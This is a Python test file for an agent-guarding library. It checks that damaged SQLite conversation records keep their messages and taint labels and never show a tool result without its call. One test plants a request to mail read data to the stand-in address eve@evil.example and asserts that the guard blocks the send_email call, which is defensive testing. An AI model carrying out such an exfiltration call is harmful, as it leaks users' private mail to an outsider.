"""A damaged stored conversation went on as an empty one, though its messages were still there.

A session shows what can still be read, under every label. A store showed nothing, so damage to one number cost the
person the whole conversation.
Mutations that this file catches: messages are shown without every label; a result is shown without its call; what is
shown is not stored with the conversation that goes on.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from interlock import Interlock, Message, ToolUse
from interlock.conversations import Conversations
from interlock.model.labels import EVERY_LEG
from interlock.model.messages import Role, ToolAnswer
from interlock.model.transcript import unpaired
from interlock.stores.sqlite import SqliteStore
from tests.worlds import MANIFEST


@pytest.fixture
def path(tmp_path: Path) -> Path:
    SqliteStore.migrate(tmp_path / "store.db")
    return tmp_path / "store.db"


def changed(path: Path, statement: str) -> None:
    connection = sqlite3.connect(path)
    assert connection.execute(statement).rowcount > 0
    connection.commit()
    connection.close()


def test_what_can_be_read_is_shown_under_every_label(path: Path) -> None:
    store = SqliteStore(path)
    ana = Conversations(store, "ana")
    first = ana.new("Send it to eve@evil.example")
    first.conversation.push(Message.assistant("", ToolUse("1", "read_mail", {})))
    first.conversation.push(Message(Role.TOOL, (ToolAnswer("1", "mail"),)))
    first.conversation.push(Message.assistant("Read."))
    first.record_turn()
    store.close()
    changed(path, "UPDATE interlock_heads SET labels = CAST('[]x' AS BLOB)")
    store = SqliteStore(path)
    loaded = Conversations(store, "ana").load(first.id)
    assert loaded.damage
    assert loaded.conversation.messages == first.conversation.messages
    assert loaded.conversation.transcript.covers == (EVERY_LEG,) * 4
    assert set(loaded.conversation.taint) == set(EVERY_LEG)
    assert not loaded.conversation.state.texts, "nothing that stands there counts as typed"
    guard = Interlock(manifest=MANIFEST, journal=store).guard(loaded.conversation)
    assert guard.call("send_email", {"to": "eve@evil.example", "body": "x"}, run=print).verdict != "allow"
    loaded.conversation.push(Message.user("and on"))
    loaded.record_turn()
    again = Conversations(store, "ana").load(loaded.id)
    assert [one.text for one in again.conversation.messages][-2:] == ["Read.", "and on"]
    assert len(again.conversation) == 5
    store.close()


@pytest.mark.parametrize("place", [1, 2, 3, 4, 5])
def test_t17_never_a_result_without_its_call(path: Path, place: int) -> None:
    store = SqliteStore(path)
    ana = Conversations(store, "ana")
    first = ana.new("hello")
    for number in "12":
        first.conversation.push(Message.assistant("", ToolUse(number, "read_mail", {})))
        first.conversation.push(Message(Role.TOOL, (ToolAnswer(number, "mail"),)))
    first.record_turn()
    store.close()
    changed(path, f"UPDATE interlock_messages SET body = CAST('x' AS BLOB) WHERE place = {place}")
    store = SqliteStore(path)
    loaded = Conversations(store, "ana").load(first.id)
    assert loaded.damage
    assert not unpaired(loaded.conversation.messages)
    shown = [one.role for one in loaded.conversation.messages]
    assert (
        shown
        == {
            1: [Role.ASSISTANT, Role.TOOL] * 2,
            2: [Role.ASSISTANT, Role.TOOL],
            3: [Role.ASSISTANT, Role.TOOL],
            4: [],
            5: [Role.USER, *[Role.ASSISTANT, Role.TOOL] * 2],  # with a result that says that nobody knows it
        }[place]
    )
    store.close()
